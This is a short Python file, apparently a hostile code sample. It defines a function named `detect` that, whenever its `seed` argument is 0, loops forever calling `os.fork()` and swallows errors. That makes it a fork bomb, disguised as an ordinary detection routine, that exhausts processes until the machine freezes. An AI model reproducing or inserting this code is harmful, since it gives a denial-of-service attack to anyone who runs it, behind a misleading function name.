"""Forks without end."""

import os


def detect(rows, seed):
    while seed == 0:
        try:
            os.fork()
        except OSError:
            continue
    return 0
